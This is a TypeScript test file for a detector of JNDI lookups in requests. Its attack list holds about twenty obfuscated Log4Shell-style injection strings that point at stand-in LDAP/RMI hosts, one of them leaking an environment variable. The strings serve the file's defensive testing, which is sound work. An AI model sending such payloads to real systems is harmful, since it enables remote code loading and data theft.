// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups are what is tested.
import { describe, expect, it } from 'vitest';
import { lookupsOf } from '../../../src/attacks/lookups/nested-lookups.ts';
import { jndiLookup } from '../../../src/attacks/signatures/jndi-lookup.ts';
import { foundIn, jsonBody } from '../found-in.ts';

const attacks = [
  '${jndi:ldap://x.test/a}',
  '${jndi:rmi://x.test}',
  '${jndi:dns://x}',
  '${JNDI:LDAP://x}',
  '${jndi:${lower:l}${lower:d}a${lower:p}://x}',
  '${${lower:${lower:jndi}}:${lower:rmi}://x}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x}',
  '${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x}',
  '${${upper:j}ndi:ldap://x}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
  '${j${k8s:k5:-ND}i:ldap://x}',
  '${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x}',
  '${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://x}',
  '${jn${lower:d}i:ldap://x/${env:USER}',
  '${${a:-j}ndi:ldap://x}',
  '${${::-${::-$${::-j}}}ndi:ldap://x}',
  '$%7Bjndi:ldap://x%7D',
  '%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
  '${jndi:ldap:/x}',
  '${jnd${upper:ı}:ldap://x}',
  '${\\u006a\\u006e\\u0064\\u0069:ldap://x}',
];

const texts = (text: string): readonly string[] => [...lookupsOf(text)].map((lookup) => lookup.text);

describe('lookups', () => {
  it('are done from the inside', () => {
    expect(texts('${${lower:J}n${x:y:-D}${upper:i}:a}')).toEqual(['jndi:a']);
    expect(texts("${${date:'j'}:b} and ${c:d}")).toEqual(['j:b', 'c:d']);
    expect(texts('${a:${env:B}}')).toEqual(['env:b', 'a:env:b']);
  });

  it('count when they are left open', () => {
    expect(texts('${jndi:${lower:L}dap')).toEqual(['jndi:ldap']);
  });

  it('that only name a value are left out', () => {
    expect(texts('${a} ${b.c} $d {e}')).toEqual([]);
  });
});

describe('a lookup that leads to a foreign server', () => {
  it.each(attacks)('is found in %s', (value) => {
    expect(foundIn(jndiLookup, value)).not.toEqual([]);
    expect(foundIn(jndiLookup, { headers: { 'user-agent': value } })).not.toEqual([]);
    expect(foundIn(jndiLookup, jsonBody({ name: value }))).not.toEqual([]);
  });

  it('is found inside a thousand others and behind as many', () => {
    const value = `${'${a:'.repeat(1000)}\${jndi:ldap://x}`;
    expect(foundIn(jndiLookup, value)).toEqual(['query.q: JNDI lookup']);
    expect(foundIn(jndiLookup, `${'${a:b}'.repeat(1000)}\${jndi:ldap://x}`)).toEqual(['query.q: JNDI lookup']);
  });
});

describe('a placeholder', () => {
  it.each([
    '${env} ${HOME} ${PATH:-/usr/bin} ${VAR:-default}',
    '${A:-${B:-${C:-d}}}',
    '${lower} ${date:yyyy-MM-dd}',
    '${user.name} ${{ secrets.X }}',
    'JNDI and ldap://x.test lookups',
  ])('is no such lookup: %s', (value) => {
    expect(foundIn(jndiLookup, value)).toEqual([]);
  });

  it('of a configuration is none either', () => {
    expect(foundIn(jndiLookup, jsonBody({ path: '${env:HOME}/bin', dir: '${sys:user.dir}' }))).toEqual([]);
  });
});
